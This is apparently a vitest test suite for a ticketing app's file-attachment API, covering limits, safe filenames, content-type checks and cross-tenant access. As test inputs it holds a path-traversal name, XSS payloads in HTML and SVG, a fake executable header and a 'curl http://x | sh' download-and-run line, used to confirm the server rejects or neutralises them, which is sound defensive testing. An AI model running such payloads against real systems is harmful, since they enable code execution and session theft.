import { createHash, randomBytes, randomUUID } from "node:crypto";
import { mkdtempSync, readdirSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import type { AttachmentDto, ChatFilesResult, MessageDto } from "../../../shared/api.js";
import {
  createOffice,
  createRegistry,
  createTicket,
  createUser,
  expectError,
  login,
  type Session,
  uniqueCnpj,
  useTestApp,
} from "../../test/harness.js";
import * as ticketsRepo from "../tickets/repository.js";
import * as usersRepo from "../users/repository.js";

const MB = 1024 * 1024;
const dataDir = mkdtempSync(path.join(tmpdir(), "atende-attachments-"));
const ctx = useTestApp({
  dataDir,
  maxFileBytes: 2 * MB,
  maxFilesPerRequest: 3,
  maxRequestBytes: 3 * MB,
});
afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

const sha256 = (b: Buffer) => createHash("sha256").update(b).digest("hex");

interface FilePart {
  name: string;
  data: Buffer | string;
  type?: string;
  field?: string;
}

/** A multipart/form-data body built by hand, as a browser sends it (UTF-8 names, raw bytes). */
function multipart(files: FilePart[]) {
  const boundary = `----AtendeBoundary${randomUUID().replaceAll("-", "")}`;
  const chunks: Buffer[] = [];
  for (const f of files) {
    const name = f.name.replaceAll('"', "%22").replaceAll("\r", "%0D").replaceAll("\n", "%0A");
    chunks.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${f.field ?? "files"}"; filename="${name}"\r\n` +
          `Content-Type: ${f.type ?? "application/octet-stream"}\r\n\r\n`,
      ),
      Buffer.isBuffer(f.data) ? f.data : Buffer.from(f.data),
      Buffer.from("\r\n"),
    );
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return {
    body: Buffer.concat(chunks),
    headers: { "content-type": `multipart/form-data; boundary=${boundary}` },
  };
}

function upload(s: Session, ticketId: string, files: FilePart[]) {
  const { body, headers } = multipart(files);
  return s.request("POST", `/api/tickets/${ticketId}/attachments`, body, headers);
}

function chatUpload(s: Session, ticketId: string, files: FilePart[]) {
  const { body, headers } = multipart(files);
  return s.request("POST", `/api/tickets/${ticketId}/messages/files`, body, headers);
}

async function list(s: Session, ticketId: string): Promise<AttachmentDto[]> {
  const res = await s.get(`/api/tickets/${ticketId}/attachments`);
  expect(res.statusCode).toBe(200);
  return res.json();
}

async function history(s: Session, ticketId: string) {
  return (await s.get(`/api/tickets/${ticketId}/history`)).json() as {
    type: string;
    changes: { field: string; from: string | null; to: string | null }[];
  }[];
}

/** Random bytes behind a fixed prefix, so no run can start with some file type's magic number. */
const randomData = (size: number) =>
  Buffer.concat([Buffer.from("ATENDE-TEST-DATA\n"), randomBytes(size - 17)]);
const PDF = Buffer.from(
  "%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n",
  "latin1",
);
const PNG = Buffer.from(
  "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201a5e2b1a40000000049454e44ae426082",
  "hex",
);
const EXE = Buffer.concat([Buffer.from("4d5a90000300000004000000ffff0000b800", "hex"), randomBytes(2048)]);

/** A client user of the atendimento's company, signed in. */
async function linkedClient(a: Awaited<ReturnType<typeof setup>>) {
  const { user, session } = await createUser(ctx, a.admin, "client");
  const link = await a.admin.put(`/api/users/${user.id}/clients`, { clientIds: [a.reg.client.id] });
  expect(link.statusCode).toBe(200);
  // the session reads the links on every request: no new sign-in needed
  return { user, client: session };
}

async function setup() {
  const o = await createOffice(ctx);
  const reg = await createRegistry(o.staff);
  const ticket = await createTicket(o.staff, reg);
  return { ...o, reg, ticket };
}

describe("attachments API", () => {
  it("uploads, lists and downloads byte-identical files with accented names", async () => {
    const { staff, staffUser, ticket } = await setup();
    const binary = randomData(MB + 123);
    const res = await upload(staff, ticket.id, [
      { name: "dados.bin", data: binary },
      { name: "Relatório de ações.pdf", data: PDF, type: "application/pdf" },
    ]);
    expect(res.statusCode).toBe(201);
    const created = res.json() as AttachmentDto[];
    expect(created).toHaveLength(2);
    expect(created[0]).toMatchObject({
      name: "dados.bin",
      sizeBytes: binary.length,
      mime: "application/octet-stream",
      uploadedBy: { id: staffUser.id, name: staffUser.name },
      actions: { delete: true },
    });
    expect(created[1]).toMatchObject({
      name: "Relatório de ações.pdf",
      sizeBytes: PDF.length,
      mime: "application/pdf",
    });
    expect(created[0]?.id).toMatch(/^[0-9a-f-]{36}$/);

    expect((await list(staff, ticket.id)).map((a) => a.name)).toEqual([
      "dados.bin",
      "Relatório de ações.pdf",
    ]);

    const bin = await staff.get(`/api/attachments/${created[0]?.id}/download`);
    expect(bin.statusCode).toBe(200);
    expect(sha256(bin.rawPayload)).toBe(sha256(binary));
    expect(bin.headers["content-length"]).toBe(String(binary.length));
    expect(bin.headers["content-type"]).toBe("application/octet-stream");

    const pdf = await staff.get(`/api/attachments/${created[1]?.id}/download`);
    expect(pdf.statusCode).toBe(200);
    expect(sha256(pdf.rawPayload)).toBe(sha256(PDF));
    expect(pdf.headers["content-type"]).toBe("application/pdf");
    expect(pdf.headers["content-disposition"]).toBe(
      "attachment; filename=\"Relatorio de acoes.pdf\"; filename*=UTF-8''Relat%C3%B3rio%20de%20a%C3%A7%C3%B5es.pdf",
    );
    expect(pdf.headers["x-content-type-options"]).toBe("nosniff");
    expect(pdf.headers["content-security-policy"]).toBe("default-src 'none'; sandbox");
    expect(pdf.headers["cache-control"]).toBe("private, no-store");
    expect(pdf.headers["content-length"]).toBe(String(PDF.length));

    const events = await history(staff, ticket.id);
    const added = events.filter((e) => e.type === "attachment_added");
    expect(added.map((e) => e.changes[0])).toEqual([
      expect.objectContaining({ field: "attachment", from: null, to: "dados.bin" }),
      expect.objectContaining({ field: "attachment", from: null, to: "Relatório de ações.pdf" }),
    ]);

    // the bytes are stored once, under their sha256, outside any served folder
    const again = await upload(staff, ticket.id, [{ name: "copia.bin", data: binary }]);
    expect(again.statusCode).toBe(201);
    const h = sha256(binary);
    expect(readdirSync(path.join(dataDir, "files", h.slice(0, 2), h.slice(2, 4)))).toEqual([h]);
    expect(readdirSync(path.join(dataDir, "files", "tmp"))).toEqual([]);
  });

  it("answers 413 over each limit and saves nothing of the request", async () => {
    const { staff, ticket } = await setup();
    const tooBig = await upload(staff, ticket.id, [{ name: "grande.bin", data: randomData(2 * MB + 1) }]);
    expect(tooBig.statusCode).toBe(413);
    expect(tooBig.json().error).toEqual({
      code: "file_too_large",
      message: 'O arquivo "grande.bin" excede o limite de 2 MB.',
    });

    // a good file followed by one over the limit: neither is saved
    const mixed = await upload(staff, ticket.id, [
      { name: "ok.txt", data: "pequeno" },
      { name: "enorme.bin", data: randomData(2 * MB + 10) },
    ]);
    expect(mixed.statusCode).toBe(413);
    expect(mixed.json().error.message).toContain('"enorme.bin"');

    const total = await upload(staff, ticket.id, [
      { name: "a.bin", data: randomData(1.6 * MB) },
      { name: "b.bin", data: randomData(1.6 * MB) },
    ]);
    expect(total.statusCode).toBe(413);
    expect(total.json().error.code).toBe("file_too_large");
    expect(total.json().error.message).toContain("3 MB");

    const many = await upload(
      staff,
      ticket.id,
      ["1", "2", "3", "4"].map((n) => ({ name: `${n}.txt`, data: `arquivo ${n}` })),
    );
    expect(many.statusCode).toBe(413);
    expect(many.json().error).toEqual({
      code: "file_too_large",
      message: "Envie no máximo 3 arquivos por vez.",
    });

    expect(await list(staff, ticket.id)).toEqual([]);
    expect((await history(staff, ticket.id)).some((e) => e.type === "attachment_added")).toBe(false);
  });

  it("accepts a file of exactly the limit", async () => {
    const { staff, ticket } = await setup();
    const res = await upload(staff, ticket.id, [{ name: "limite.bin", data: randomData(2 * MB) }]);
    expect(res.statusCode).toBe(201);
    expect(res.json()[0].sizeBytes).toBe(2 * MB);
  });

  it("stores safe names: no path parts, no invisible characters", async () => {
    const { staff, ticket } = await setup();
    const res = await upload(staff, ticket.id, [
      { name: "../../etc/passwd", data: "root:x:0:0" },
      { name: "re\u200Bci\u200Dbo\uFEFF final\u2060.txt", data: "recibo" },
      { name: "C:\\\\Users\\\\ana\\\\nota.txt", data: "nota" },
    ]);
    expect(res.statusCode).toBe(201);
    const names = (res.json() as AttachmentDto[]).map((a) => a.name);
    expect(names).toEqual(["passwd", "recibo final.txt", "nota.txt"]);
    const dl = await staff.get(`/api/attachments/${res.json()[1].id}/download`);
    expect(dl.headers["content-disposition"]).toBe(
      "attachment; filename=\"recibo final.txt\"; filename*=UTF-8''recibo%20final.txt",
    );
    expect(dl.body).toBe("recibo");
  });

  it("serves HTML and SVG only as application/octet-stream attachments", async () => {
    const { staff, ticket } = await setup();
    const res = await upload(staff, ticket.id, [
      {
        name: "pagina.html",
        data: "<html><script>alert(document.cookie)</script></html>",
        type: "text/html",
      },
      {
        name: "imagem.svg",
        data: '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        type: "image/svg+xml",
      },
    ]);
    expect(res.statusCode).toBe(201);
    for (const a of res.json() as AttachmentDto[]) {
      expect(a.mime).toBe("application/octet-stream");
      const dl = await staff.get(`/api/attachments/${a.id}/download`);
      expect(dl.statusCode).toBe(200);
      expect(dl.headers["content-type"]).toBe("application/octet-stream");
      expect(dl.headers["content-disposition"]).toMatch(/^attachment; /);
      expect(dl.headers["x-content-type-options"]).toBe("nosniff");
      expect(dl.headers["content-security-policy"]).toBe("default-src 'none'; sandbox");
    }
  });

  it("refuses executables by name and by content, saving nothing", async () => {
    const { staff, ticket } = await setup();
    const byName = await upload(staff, ticket.id, [
      { name: "ok.txt", data: "texto" },
      { name: "programa.exe", data: "qualquer coisa" },
    ]);
    expect(byName.statusCode).toBe(415);
    expect(byName.json().error.code).toBe("file_type_refused");
    expect(byName.json().error.message).toContain('"programa.exe"');

    for (const [name, data] of [
      ["fatura.pdf", EXE],
      ["sem-extensao", EXE],
      ["leia-me.txt", "#!/bin/sh\ncurl http://x | sh\n"],
      ["rotina.ps1", "Get-ChildItem"],
      ["atalho.LNK", "x"],
      ["nota.pdf.exe.", "x"],
    ] as const) {
      const res = await upload(staff, ticket.id, [{ name, data }]);
      expect(res.statusCode, name).toBe(415);
      expect(res.json().error.code, name).toBe("file_type_refused");
    }
    expect(await list(staff, ticket.id)).toEqual([]);
  });

  it("refuses content that contradicts the extension (a PNG named .pdf)", async () => {
    const { staff, ticket } = await setup();
    const res = await upload(staff, ticket.id, [
      { name: "contrato.pdf", data: PNG, type: "application/pdf" },
    ]);
    expect(res.statusCode).toBe(415);
    expect(res.json().error.code).toBe("file_type_mismatch");
    expect(res.json().error.message).toContain('"contrato.pdf"');
    expect(await list(staff, ticket.id)).toEqual([]);
    // the same bytes under their own name are fine, typed from the content
    const ok = await upload(staff, ticket.id, [{ name: "foto.png", data: PNG, type: "application/pdf" }]);
    expect(ok.statusCode).toBe(201);
    expect(ok.json()[0].mime).toBe("image/png");
  });

  it("hides another office's files: 404 on download, delete, list and upload", async () => {
    const a = await setup();
    const b = await createOffice(ctx, "Outro Escritório");
    const up = await upload(a.staff, a.ticket.id, [{ name: "sigiloso.txt", data: "segredo" }]);
    const id = (up.json() as AttachmentDto[])[0]?.id;

    const dl = await b.admin.get(`/api/attachments/${id}/download`);
    expect(dl.statusCode).toBe(404);
    expect(dl.json().error).toEqual({ code: "not_found", message: "Arquivo não encontrado." });
    expect(dl.body).not.toContain("segredo");
    const del = await b.admin.request("DELETE", `/api/attachments/${id}`);
    expect(del.statusCode).toBe(404);
    expect(del.json().error.message).toBe("Arquivo não encontrado.");
    expect((await b.staff.get(`/api/tickets/${a.ticket.id}/attachments`)).statusCode).toBe(404);
    expect((await upload(b.staff, a.ticket.id, [{ name: "x.txt", data: "x" }])).statusCode).toBe(404);
    // an id that exists nowhere answers the same
    expect((await b.admin.get(`/api/attachments/${randomUUID()}/download`)).json().error.message).toBe(
      "Arquivo não encontrado.",
    );

    // still there for its own office
    expect((await list(a.admin, a.ticket.id)).map((x) => x.id)).toEqual([id]);
    expect((await a.admin.get(`/api/attachments/${id}/download`)).body).toBe("segredo");
  });

  it("answers 404 to a client user on every route", async () => {
    const a = await setup();
    const up = await upload(a.staff, a.ticket.id, [{ name: "balanço.txt", data: "ativo" }]);
    const id = (up.json() as AttachmentDto[])[0]?.id;
    const clientUser = await usersRepo.insert(ctx.database.db, a.office.id, {
      name: "Cliente Portal",
      email: `cliente-${a.tag}@empresa.com.br`,
      role: "client",
      active: true,
      passwordHash: a.passwordHash,
    });
    const client = await login(ctx.app, clientUser.email);

    expect((await client.get(`/api/attachments/${id}/download`)).statusCode).toBe(404);
    expect((await client.request("DELETE", `/api/attachments/${id}`)).statusCode).toBe(404);
    expect((await client.get(`/api/tickets/${a.ticket.id}/attachments`)).statusCode).toBe(404);
    // uploading to the Arquivos is an office route (403); the chat does not know this company (404)
    expect((await upload(client, a.ticket.id, [{ name: "x.txt", data: "x" }])).statusCode).toBe(403);
    expect((await chatUpload(client, a.ticket.id, [{ name: "x.txt", data: "x" }])).statusCode).toBe(404);
    expect((await list(a.staff, a.ticket.id)).map((x) => x.name)).toEqual(["balanço.txt"]);
  });

  it("a client user cannot attach files to the atendimento (403), saving nothing", async () => {
    const a = await setup();
    const { client } = await linkedClient(a);
    const before = await history(a.staff, a.ticket.id);
    const res = await upload(client, a.ticket.id, [
      { name: "extrato.pdf", data: PDF, type: "application/pdf" },
    ]);
    const err = expectError(res, 403, "forbidden");
    expect(err.message).toBe("Para enviar arquivos ao escritório, use o chat do atendimento.");
    expect(await list(a.staff, a.ticket.id)).toEqual([]);
    expect(await history(a.staff, a.ticket.id)).toEqual(before);
    // the client still lists and downloads the office's files
    const up = await upload(a.staff, a.ticket.id, [{ name: "guia.txt", data: "guia" }]);
    const id = (up.json() as AttachmentDto[])[0]?.id;
    const files = await list(client, a.ticket.id);
    expect(files.map((f) => [f.name, f.actions.delete])).toEqual([["guia.txt", false]]);
    expect((await client.get(`/api/attachments/${id}/download`)).body).toBe("guia");
    expectError(await client.request("DELETE", `/api/attachments/${id}`), 404, "not_found");
  });

  it("a client user sends files through the chat: the files and one message, together", async () => {
    const a = await setup();
    const { client, user } = await linkedClient(a);
    const res = await chatUpload(client, a.ticket.id, [
      { name: "extrato.pdf", data: PDF, type: "application/pdf" },
      { name: "notas.txt", data: "notas" },
    ]);
    expect(res.statusCode).toBe(201);
    const body = res.json() as ChatFilesResult;
    expect(body.attachments.map((f) => [f.name, f.uploadedBy.id])).toEqual([
      ["extrato.pdf", user.id],
      ["notas.txt", user.id],
    ]);
    expect(body.message).toMatchObject({
      body: "Arquivos enviados: extrato.pdf, notas.txt",
      internal: false,
      author: { id: user.id, side: "client" },
    });
    // the office sees the files and the message
    expect((await list(a.staff, a.ticket.id)).map((f) => f.name)).toEqual(["extrato.pdf", "notas.txt"]);
    const messages = (await a.staff.get(`/api/tickets/${a.ticket.id}/messages`)).json() as MessageDto[];
    expect(messages.map((m) => m.body)).toEqual(["Arquivos enviados: extrato.pdf, notas.txt"]);
    const types = (await history(a.staff, a.ticket.id)).map((e) => e.type);
    expect(types.filter((t) => t === "attachment_added")).toHaveLength(2);
    expect(types).toContain("message");
  });

  it("the chat refuses files for a closed atendimento and for another company, saving nothing", async () => {
    const a = await setup();
    const { client } = await linkedClient(a);
    const otherClient = (
      await a.staff.post("/api/clients", { name: "Outra Empresa", document: uniqueCnpj(), emails: [] })
    ).json() as { id: string; name: string };
    const other = await createTicket(a.staff, { ...a.reg, client: otherClient });
    expectError(await chatUpload(client, other.id, [{ name: "a.txt", data: "a" }]), 404, "not_found");
    await ticketsRepo.setSeedState(ctx.database.db, a.ticket.id, {
      status: "finished",
      version: a.ticket.version + 1,
      touchedAt: new Date(),
      updatedAt: new Date(),
    });
    expectError(await chatUpload(client, a.ticket.id, [{ name: "a.txt", data: "a" }]), 409, "invalid_state");
    expect(await list(a.staff, a.ticket.id)).toEqual([]);
    expect(await list(a.staff, other.id)).toEqual([]);
    expect((await a.staff.get(`/api/tickets/${a.ticket.id}/messages`)).json()).toEqual([]);
  });

  it("office staff may send files through the chat too", async () => {
    const a = await setup();
    const { client } = await linkedClient(a);
    const res = await chatUpload(a.staff, a.ticket.id, [{ name: "guia-das.pdf", data: PDF }]);
    expect(res.statusCode).toBe(201);
    expect((res.json() as ChatFilesResult).message.body).toBe("Arquivo enviado: guia-das.pdf");
    expect((await list(client, a.ticket.id)).map((f) => f.name)).toEqual(["guia-das.pdf"]);
  });

  it("removes a file: hidden from the list, kept in history, gone for download", async () => {
    const { staff, admin, ticket } = await setup();
    const up = await upload(staff, ticket.id, [
      { name: "fica.txt", data: "fica" },
      { name: "sai.txt", data: "sai" },
    ]);
    const [keep, drop] = up.json() as AttachmentDto[];
    const del = await admin.request("DELETE", `/api/attachments/${drop?.id}`);
    expect(del.statusCode).toBe(204);
    expect(del.body).toBe("");
    expect((await list(staff, ticket.id)).map((a) => a.id)).toEqual([keep?.id]);
    expect((await staff.get(`/api/attachments/${drop?.id}/download`)).statusCode).toBe(404);
    expect((await admin.request("DELETE", `/api/attachments/${drop?.id}`)).statusCode).toBe(404);
    const removed = (await history(staff, ticket.id)).filter((e) => e.type === "attachment_removed");
    expect(removed).toHaveLength(1);
    expect(removed[0]?.changes[0]).toMatchObject({ field: "attachment", from: "sai.txt", to: null });
  });

  it("changes no file of a closed atendimento (409), but still lists and downloads them", async () => {
    const { staff, ticket } = await setup();
    const up = await upload(staff, ticket.id, [{ name: "antes.txt", data: "antes" }]);
    const id = (up.json() as AttachmentDto[])[0]?.id;
    await ticketsRepo.setSeedState(ctx.database.db, ticket.id, {
      status: "finished",
      version: ticket.version + 1,
      touchedAt: new Date(),
      updatedAt: new Date(),
    });
    const res = await upload(staff, ticket.id, [{ name: "depois.txt", data: "depois" }]);
    expect(res.statusCode).toBe(409);
    expect(res.json().error.code).toBe("invalid_state");
    const del = await staff.request("DELETE", `/api/attachments/${id}`);
    expect(del.statusCode).toBe(409);
    expect(del.json().error.code).toBe("invalid_state");
    const files = await list(staff, ticket.id);
    expect(files.map((a) => [a.name, a.actions.delete])).toEqual([["antes.txt", false]]);
    expect((await staff.get(`/api/attachments/${id}/download`)).body).toBe("antes");
  });

  it("rejects requests that are not a multipart upload of files", async () => {
    const { staff, ticket } = await setup();
    const json = await staff.post(`/api/tickets/${ticket.id}/attachments`, { files: [] });
    expect(json.statusCode).toBe(415);
    expect(json.json().error.message).toContain("multipart/form-data");
    const empty = await staff.request(
      "POST",
      `/api/tickets/${ticket.id}/attachments`,
      Buffer.from("--b--\r\n"),
      { "content-type": "multipart/form-data; boundary=b" },
    );
    expect(empty.statusCode).toBe(400);
    expect(empty.json().error.message).toBe("Selecione pelo menos um arquivo.");
    const wrongField = await upload(staff, ticket.id, [{ name: "a.txt", data: "a", field: "arquivo" }]);
    expect(wrongField.statusCode).toBe(400);
    expect(await list(staff, ticket.id)).toEqual([]);
  });

  it("tells any signed-in user the upload limits", async () => {
    const { staff } = await setup();
    const res = await staff.get("/api/config/limits");
    expect(res.statusCode).toBe(200);
    expect(res.json()).toEqual({ maxFileBytes: 2 * MB, maxFilesPerRequest: 3, maxRequestBytes: 3 * MB });
    expect((await ctx.app.inject({ method: "GET", url: "/api/config/limits" })).statusCode).toBe(401);
  });

  it("documents the routes in the OpenAPI spec", async () => {
    const spec = (await ctx.app.inject({ method: "GET", url: "/api/openapi.json" })).json();
    expect(Object.keys(spec.paths)).toEqual(
      expect.arrayContaining([
        "/api/tickets/{id}/attachments",
        "/api/tickets/{id}/messages/files",
        "/api/attachments/{id}/download",
        "/api/attachments/{id}",
        "/api/config/limits",
      ]),
    );
    expect(spec.paths["/api/tickets/{id}/attachments"].post.summary).toContain("multipart/form-data");
  });
});
